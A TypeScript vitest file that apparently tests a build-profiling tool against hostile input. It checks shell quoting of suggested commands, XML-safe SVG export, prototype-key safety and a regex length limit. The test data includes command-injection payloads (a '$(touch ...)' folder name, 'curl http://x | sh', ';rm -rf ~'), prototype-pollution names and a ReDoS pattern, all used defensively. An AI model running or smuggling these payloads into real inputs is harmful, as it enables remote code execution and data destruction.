// Issue 17, hostile text reaching the user: suggested commands are shell-quoted, the SVG export
// holds only what XML can, untrusted names are never looked up on an object's prototype, and a
// shared link cannot hand the main thread an 8 KiB regular expression.
import { beforeAll, describe, expect, it } from 'vitest';
import { argumentSizes } from '../../src/analysis/starlark-sizes.ts';
import { evaluateSize } from '../../src/analysis/starlark-size-expressions.ts';
import { profileCommands } from '../../src/analysis/peaks.ts';
import { parser } from '@lezer/python';
import { decodeXmlText } from '../../src/formats/flame-svg.ts';
import { shellQuote } from '../../src/model/shell.ts';
import type { ParsedFile } from '../../src/model/profile.ts';
import { xmlSafe } from '../../src/views/export-flame.ts';
import { missingModes } from '../../src/views/set-words.ts';
import { loadRegexEngine, makeMatcher, MAX_REGEX_CHARS } from '../../src/views/tree-search.ts';

// Regexes compile once the engine (loaded on first use in the page) is in.
beforeAll(() => loadRegexEngine());

/** What a POSIX shell makes of one quoted word: the word back, or null if it would expand or split. */
function unquote(word: string): string | null {
  if (/^[A-Za-z0-9_@%+=:,./-]+$/.test(word)) return word;
  const m = /^'((?:[^']|'\\'')*)'$/.exec(word);
  return m ? m[1]!.replace(/'\\''/g, "'") : null;
}

/** Splits a command we built into its quoted words (single quotes only, as shellQuote writes). */
function words(command: string): string[] {
  return command.match(/(?:'(?:[^']|'\\'')*'|[^\s'])+/g) ?? [];
}

const targets = (ids: string[]): ParsedFile =>
  ({
    path: 'targets.txt',
    size: 1,
    profile: { format: 'targets', ids },
    error: null,
    diagnostics: [],
    truncated: null,
    compression: null,
  }) as ParsedFile;

describe('suggested commands', () => {
  it("quote every argument built from a folder name or a targets.txt line (the issue's payload)", () => {
    const folder = '$(touch ${HOME}-pwned)';
    const line = 'load/root//pkg && curl http://x | sh #';
    const [first] = missingModes(folder, [targets([line])]);
    const argv = words(first!.command).map(unquote);
    expect(argv).toEqual([
      'buck2',
      'profile',
      'loading',
      '--mode',
      'heap-allocated',
      '-o',
      `${folder}/heap-allocated`,
      'root//pkg && curl http://x | sh #:',
    ]);
  });

  it('quote module ids from an event log, and keep a pattern that starts with - from being an option', () => {
    const [cmd] = profileCommands("root//a'b;rm -rf ~:BUCK");
    expect(words(cmd!.command).map(unquote).at(-1)).toBe("root//a'b;rm -rf ~:");
    expect(shellQuote('plain//pkg:')).toBe('plain//pkg:');
    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
    expect(shellQuote('a\u202eb\u001bc\nd')).toBe(`'a?b?c?d'`);
  });
});

describe('SVG export text', () => {
  it('replaces what XML 1.0 cannot hold and keeps the rest', () => {
    expect(xmlSafe('a\u001bb\u0001c\ufffed\uffff\ud800e\udc00')).toBe('a\ufffdb\ufffdc\ufffdd\ufffd\ufffde\ufffd');
    expect(xmlSafe('tab\tlf\ncr\r😀 é <&>')).toBe('tab\tlf\ncr\r😀 é <&>');
  });
});

describe('untrusted names are never prototype keys', () => {
  it('`&constructor;` in a flame.svg title stays as written', () => {
    expect(decodeXmlText('a &constructor; &toString; &__proto__; &amp;')).toBe(
      'a &constructor; &toString; &__proto__; &',
    );
  });

  it('a keyword argument named valueOf, constructor or __proto__ is just a name', () => {
    const text = 'f(valueOf = 3, __proto__ = 5)\n';
    const call = parser.parse(text).topNode.getChild('ExpressionStatement')!.getChild('CallExpression')!;
    const { keyword } = argumentSizes(text, call.getChild('ArgList'));
    expect(Object.hasOwn(keyword, 'valueOf') && evaluateSize(keyword['valueOf']!)).toBe(3);
    expect(Object.hasOwn(keyword, '__proto__') && evaluateSize(keyword['__proto__']!)).toBe(5);
    expect('constructor' in keyword).toBe(false);
  });
});

describe('search from a shared link', () => {
  it('refuses a regular expression over MAX_REGEX_CHARS in words; literal text has no bound', () => {
    const long = '(a+)+'.repeat(1640);
    const m = makeMatcher(long, true);
    expect(m.ok).toBe(false);
    if (!m.ok)
      expect(m.message).toBe(`a regular expression may have up to ${MAX_REGEX_CHARS} characters; this one has 8,200`);
    expect(makeMatcher('x'.repeat(8192), false).ok).toBe(true);
    expect(makeMatcher('a'.repeat(MAX_REGEX_CHARS), true).ok).toBe(true);
  });
});
